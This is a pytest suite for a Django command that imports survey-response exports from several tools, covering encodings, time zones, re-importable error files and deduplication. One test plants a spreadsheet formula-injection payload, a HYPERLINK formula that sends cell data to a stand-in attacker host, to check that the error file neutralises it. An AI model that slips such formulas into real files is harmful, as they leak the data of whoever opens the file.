"""import_responses with real export shapes: recognised without hand-editing, decoded as a
whole first, failed rows to a re-importable error file, nothing imported twice."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest
import time_machine
from django.core.management import CommandError, call_command

from surveys.models import IngestionSource, Response
from tickets.models import Ticket

EXPORTS = Path(__file__).parent / "exports"
NOW = dt.datetime(2026, 11, 22, 12, 0, tzinfo=dt.UTC)


@pytest.fixture
def import_source(db):
    return IngestionSource.objects.create(name="Exports", slug="exports", kind="import")


def run(*args) -> tuple[str, bool]:
    """(output, whether the command exited non-zero)."""
    out = io.StringIO()
    try:
        call_command("import_responses", *map(str, args), stdout=out)
    except CommandError as exc:
        if "rows failed" not in str(exc):
            raise
        return out.getvalue(), True
    return out.getvalue(), False


def stored() -> dict[str, Response]:
    return {r.external_id: r for r in Response.objects.select_related("customer")}


@time_machine.travel(NOW, tick=False)
def test_surveymonkey_two_header_rows(survey, import_source):
    output, failed = run(
        EXPORTS / "surveymonkey_export.csv", "--source", "exports", "--survey", "nps-2026"
    )
    assert not failed, output
    assert "recognised: surveymonkey" in output
    answers = stored()
    assert {k: r.score for k, r in answers.items()} == {
        "114298840927": 3,
        "114298840928": 10,
        "114298840929": 8,
    }
    first = answers["114298840927"]
    assert first.comment == "Delivery was late"
    assert first.customer.external_id == "CRM-1"
    assert first.customer.email == "ivan@example.com"
    assert first.responded_at == dt.datetime(2026, 11, 20, 9, 15, 3, tzinfo=dt.UTC)
    assert Ticket.objects.get().origin_response == first


@time_machine.travel(NOW, tick=False)
def test_google_forms_timestamp_with_gmt_offset(survey, import_source):
    output, failed = run(
        EXPORTS / "google_forms_export.csv", "--source", "exports", "--survey", "nps-2026"
    )
    assert not failed, output
    assert "recognised: google_forms (utf-8-sig)" in output
    answer = Response.objects.select_related("customer").get(customer__email="anna@example.com")
    assert answer.responded_at == dt.datetime(2026, 11, 20, 6, 15, 3, tzinfo=dt.UTC)
    assert (answer.score, answer.comment) == (2, "Support never called back")
    assert answer.external_id.startswith("row-")


@time_machine.travel(NOW, tick=False)
def test_excel_in_russia_windows_1251_semicolons(survey, import_source):
    output, failed = run(
        EXPORTS / "google_forms_excel_ru.csv",
        "--source",
        "exports",
        "--survey",
        "nps-2026",
        "--time-zone",
        "Europe/Moscow",
    )
    assert not failed, output
    assert "cp1251" in output
    answer = Response.objects.get(customer__email="svetlana@example.com")
    assert answer.comment == "Курьер опоздал на два часа, никто не перезвонил"
    assert answer.responded_at == dt.datetime(2026, 11, 20, 8, 30, tzinfo=dt.UTC)
    assert Response.objects.count() == 3


@time_machine.travel(NOW, tick=False)
def test_typeform_xlsx(survey, import_source):
    output, failed = run(
        EXPORTS / "typeform_export.xlsx", "--source", "exports", "--survey", "nps-2026"
    )
    assert not failed, output
    assert "recognised: typeform (xlsx)" in output
    answer = stored()["k3p0q9x1c7h2a8b4"]
    assert (answer.score, answer.comment, answer.customer.email) == (
        5,
        "Too expensive",
        "lena@example.com",
    )
    assert answer.responded_at == dt.datetime(2026, 11, 20, 9, 12, 44, tzinfo=dt.UTC)


@time_machine.travel(NOW, tick=False)
def test_delighted_export(survey, import_source):
    output, failed = run(
        EXPORTS / "delighted_export.csv", "--source", "exports", "--survey", "nps-2026"
    )
    assert not failed, output
    answer = stored()["88123001"]
    assert (answer.score, answer.customer.external_id, answer.customer.name) == (
        4,
        "5975001",
        "Paul Gravis",
    )
    assert answer.responded_at == dt.datetime(2026, 11, 20, 6, 15, 3, tzinfo=dt.UTC)


@time_machine.travel(NOW, tick=False)
def test_contract_columns_tab_separated_with_a_default_zone(survey, import_source):
    output, failed = run(
        EXPORTS / "contract_export.tsv",
        "--source",
        "exports",
        "--time-zone",
        "Europe/Moscow",
    )
    assert not failed, output
    answer = stored()["crm-101"]
    assert (answer.comment, answer.channel, answer.customer.segment) == (
        "Никто не помог",
        "email",
        "smb",
    )
    assert answer.responded_at == dt.datetime(2026, 11, 20, 8, 30, tzinfo=dt.UTC)


@time_machine.travel(NOW, tick=False)
def test_bad_rows_go_to_an_error_file_that_reimports_and_nothing_twice(
    tmp_path, survey, import_source
):
    text = (EXPORTS / "google_forms_export.csv").read_text(encoding="utf-8-sig")
    text += (
        "not a date,carl@example.com,4,Slow\n2026/11/21 8:00:00 AM GMT+3,dina@example.com,eleven,\n"
    )
    source_file = tmp_path / "form.csv"
    source_file.write_text(text, encoding="utf-8")
    errors = tmp_path / "errors.csv"
    args = ("--source", "exports", "--survey", "nps-2026", "--errors", errors)
    output, failed = run(source_file, *args)
    assert failed
    assert "row 4: Timestamp:" in output
    assert "row 5: How likely are you to recommend us to a friend?:" in output
    assert Response.objects.count() == 2
    rows = list(csv.DictReader(errors.open(encoding="utf-8")))
    assert [(r["_row"], r["_column"]) for r in rows] == [
        ("4", "Timestamp"),
        ("5", "How likely are you to recommend us to a friend?"),
    ]
    rows[0]["responded_at"] = "21.11.2026 10:00"
    rows[1]["score"] = "1"
    fixed = tmp_path / "fixed.csv"
    with fixed.open("w", encoding="utf-8", newline="") as out:
        writer = csv.DictWriter(out, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    output, failed = run(fixed, "--source", "exports", "--survey", "nps-2026")
    assert not failed, output
    assert Response.objects.count() == 4
    assert Response.objects.get(customer__email="dina@example.com").score == 1
    # Re-running the original imports nothing twice (ids from the content hash).
    output, failed = run(source_file, *args)
    assert "0 created, 2 duplicates, 2 failed" in output
    assert Response.objects.count() == 4


@time_machine.travel(NOW, tick=False)
def test_old_detractors_count_but_open_no_ticket(survey, import_source):
    output, failed = run(
        EXPORTS / "surveymonkey_export.csv",
        "--source",
        "exports",
        "--survey",
        "nps-2026",
        "--no-ticket-older-than",
        "1",
    )
    assert not failed
    assert "1 old detractors without a ticket" in output
    assert Response.objects.filter(category="detractor").count() == 1
    assert Ticket.objects.count() == 0


@time_machine.travel(NOW, tick=False)
def test_unknown_headers_need_a_map_and_a_damaged_file_stores_nothing(
    tmp_path, survey, import_source
):
    path = tmp_path / "crm.csv"
    path.write_text("Client;Mark;Remark\nC-9;2;bad\n", encoding="utf-8")
    with pytest.raises(CommandError, match="No score column recognised"):
        run(path, "--source", "exports", "--survey", "nps-2026")
    output, failed = run(
        path,
        "--source",
        "exports",
        "--survey",
        "nps-2026",
        "--map",
        "score=Mark,comment=Remark,customer_external_id=Client",
    )
    assert not failed, output
    assert Response.objects.get().customer.external_id == "C-9"
    broken = tmp_path / "broken.xlsx"
    broken.write_bytes(b"PK\x03\x04 not really a workbook")
    with pytest.raises(CommandError, match="XLSX"):
        run(broken, "--source", "exports", "--survey", "nps-2026")
    assert Response.objects.count() == 1


def test_the_import_format_with_a_stray_column_is_refused_before_any_row(
    tmp_path, survey, import_source
):
    path = tmp_path / "answers.csv"
    path.write_text(
        "survey,external_id,score,customer_email,scroe_note\nnps-2026,r-1,3,a@example.com,x\n"
    )
    with pytest.raises(CommandError, match="Unknown columns: scroe_note"):
        run(path, "--source", "exports")
    assert Response.objects.count() == 0


def delighted_rows_then_one_russian_comment() -> bytes:
    """A Delighted export re-saved by Excel in Russia: English headers, 200 ASCII rows, then
    one comment in Russian, all in Windows-1251."""
    lines = [(EXPORTS / "delighted_export.csv").read_text().splitlines()[0]]
    for n in range(200):
        lines.append(
            f"9{n:07d},9,Fine,2026-11-20 06:15:03 UTC,2026-11-20 06:20:00 UTC,"
            f"77{n:05d},Customer {n},c{n}@example.com,nps,,"
        )
    lines.append(
        "88199999,3,Курьер опоздал,2026-11-20 07:00:00 UTC,2026-11-20 07:00:00 UTC,"
        "7799999,Ivan Petrov,ivan@example.com,nps,,"
    )
    return ("\r\n".join(lines) + "\r\n").encode("cp1251")


@time_machine.travel(NOW, tick=False)
def test_windows_1251_file_with_english_headers_keeps_its_russian_comment(
    tmp_path, survey, import_source
):
    path = tmp_path / "delighted_excel_ru.csv"
    path.write_bytes(delighted_rows_then_one_russian_comment())
    output, failed = run(path, "--source", "exports", "--survey", "nps-2026")
    assert not failed, output
    assert "(cp1251)" in output
    assert Response.objects.count() == 201
    assert stored()["88199999"].comment == "Курьер опоздал"


@time_machine.travel(NOW, tick=False)
def test_encoding_option_names_the_files_encoding(tmp_path, survey, import_source):
    path = tmp_path / "export.csv"
    path.write_bytes("external_id,score,comment\nr-1,5,Déjà vu\n".encode("cp1252"))
    output, failed = run(
        path, "--source", "exports", "--survey", "nps-2026", "--encoding", "cp1252"
    )
    assert not failed, output
    assert stored()["r-1"].comment == "Déjà vu"
    with pytest.raises(CommandError, match="encoding"):
        run(path, "--source", "exports", "--encoding", "no-such-codec")


@time_machine.travel(NOW, tick=False)
def test_typeform_submit_date_utc_column_ignores_the_import_time_zone(survey, import_source):
    output, failed = run(
        EXPORTS / "typeform_export.xlsx",
        "--source",
        "exports",
        "--survey",
        "nps-2026",
        "--time-zone",
        "Europe/Moscow",
    )
    assert not failed, output
    answer = stored()["k3p0q9x1c7h2a8b4"]
    assert answer.responded_at == dt.datetime(2026, 11, 20, 9, 12, 44, tzinfo=dt.UTC)


@time_machine.travel(NOW, tick=False)
def test_contract_file_error_file_keeps_every_column_of_the_file(tmp_path, survey, import_source):
    text = (EXPORTS / "contract_export.tsv").read_text(encoding="utf-8")
    lines = text.splitlines()
    lines[0] += "\tmeta_order_id"
    lines[1] += "\tA-101"
    lines[2] = lines[2].replace("\t7\t", "\tseven\t") + "\tA-102"
    source_file = tmp_path / "contract.tsv"
    source_file.write_text("\n".join(lines) + "\n", encoding="utf-8")
    errors = tmp_path / "errors.csv"
    output, failed = run(source_file, "--source", "exports", "--errors", errors)
    assert failed
    rows = list(csv.DictReader(errors.open(encoding="utf-8")))
    assert list(rows[0]) == [*lines[0].split("\t"), "_row", "_column", "_reason"]
    assert (rows[0]["survey"], rows[0]["channel"], rows[0]["meta_order_id"]) == (
        "nps-2026",
        "email",
        "A-102",
    )
    assert (rows[0]["score"], rows[0]["_row"], rows[0]["_column"]) == ("seven", "3", "score")
    rows[0]["score"] = "7"
    fixed = tmp_path / "fixed.csv"
    with fixed.open("w", encoding="utf-8", newline="") as out:
        writer = csv.DictWriter(out, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    output, failed = run(fixed, "--source", "exports", "--time-zone", "Europe/Moscow")
    assert not failed, output
    answer = stored()["crm-102"]
    assert (answer.score, answer.channel, answer.metadata["order_id"]) == (7, "email", "A-102")


def test_an_xlsx_with_a_damaged_sheet_is_refused_whole(tmp_path, survey, import_source):
    """The workbook opens (read-only mode reads sheets lazily) but its sheet is cut short."""
    import zipfile

    damaged = tmp_path / "typeform_damaged.xlsx"
    with (
        zipfile.ZipFile(EXPORTS / "typeform_export.xlsx") as source,
        zipfile.ZipFile(damaged, "w") as out,
    ):
        for entry in source.infolist():
            data = source.read(entry)
            if entry.filename.startswith("xl/worksheets/sheet"):
                data = data[: len(data) // 2]
            out.writestr(entry, data)
    with pytest.raises(CommandError, match="XLSX"):
        run(damaged, "--source", "exports", "--survey", "nps-2026")
    assert Response.objects.count() == 0


@time_machine.travel(NOW, tick=False)
def test_error_file_cells_cannot_run_as_formulas_and_reimport_as_written(
    tmp_path, survey, import_source
):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    text = (
        "external_id,score,comment,customer_email\n"
        f'r-1,eleven,"{formula.replace(chr(34), chr(34) * 2)}",a@example.com\n'
        "r-2,+7,@SUM(1),b@example.com\n"
    )
    source_file = tmp_path / "answers.csv"
    source_file.write_text(text, encoding="utf-8")
    errors = tmp_path / "errors.csv"
    output, failed = run(
        source_file, "--source", "exports", "--survey", "nps-2026", "--errors", errors
    )
    rows = list(csv.DictReader(errors.open(encoding="utf-8")))
    assert rows[0]["comment"] == "'" + formula
    for row in rows:
        assert not any(value.startswith(("=", "+", "-", "@")) for value in row.values())
    rows[0]["score"] = "1"
    fixed = tmp_path / "fixed.csv"
    with fixed.open("w", encoding="utf-8", newline="") as out:
        writer = csv.DictWriter(out, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    output, failed = run(fixed, "--source", "exports", "--survey", "nps-2026")
    assert stored()["r-1"].comment == formula


DAY_FIRST = (
    "Response ID,Score,Date,Email\n"
    "r-1,9,05/11/2026 10:00,a@example.com\n"
    "r-2,8,20/11/2026 10:00,b@example.com\n"
)
AMBIGUOUS = (
    "Response ID,Score,Date,Email\n"
    "r-1,9,05/11/2026 10:00,a@example.com\n"
    "r-2,8,06/11/2026 10:00,b@example.com\n"
)


@time_machine.travel(NOW, tick=False)
def test_slash_dates_with_a_day_over_12_are_read_day_first(tmp_path, survey, import_source):
    path = tmp_path / "answers.csv"
    path.write_text(DAY_FIRST, encoding="utf-8")
    output, failed = run(path, "--source", "exports", "--survey", "nps-2026")
    assert not failed, output
    answers = stored()
    assert answers["r-1"].responded_at == dt.datetime(2026, 11, 5, 10, 0, tzinfo=dt.UTC)
    assert answers["r-2"].responded_at == dt.datetime(2026, 11, 20, 10, 0, tzinfo=dt.UTC)


@time_machine.travel(NOW, tick=False)
def test_only_ambiguous_slash_dates_need_the_order_named(tmp_path, survey, import_source):
    path = tmp_path / "answers.csv"
    path.write_text(AMBIGUOUS, encoding="utf-8")
    with pytest.raises(CommandError, match="--date-order"):
        run(path, "--source", "exports", "--survey", "nps-2026")
    assert Response.objects.count() == 0
    output, failed = run(path, "--source", "exports", "--survey", "nps-2026", "--date-order", "dmy")
    assert not failed, output
    assert stored()["r-2"].responded_at == dt.datetime(2026, 11, 6, 10, 0, tzinfo=dt.UTC)


@time_machine.travel(NOW, tick=False)
def test_rows_in_several_engine_chunks_store_as_one(survey, import_source, monkeypatch):
    monkeypatch.setattr("intake.spreadsheet_import.CHUNK", 1)
    args = ("--source", "exports", "--survey", "nps-2026")
    output, failed = run(EXPORTS / "google_forms_export.csv", *args)
    assert not failed, output
    assert "2 created" in output
    output, failed = run(EXPORTS / "google_forms_export.csv", *args)
    assert "0 created, 2 duplicates" in output
    assert Response.objects.count() == 2
    assert Ticket.objects.count() == Response.objects.filter(category="detractor").count()
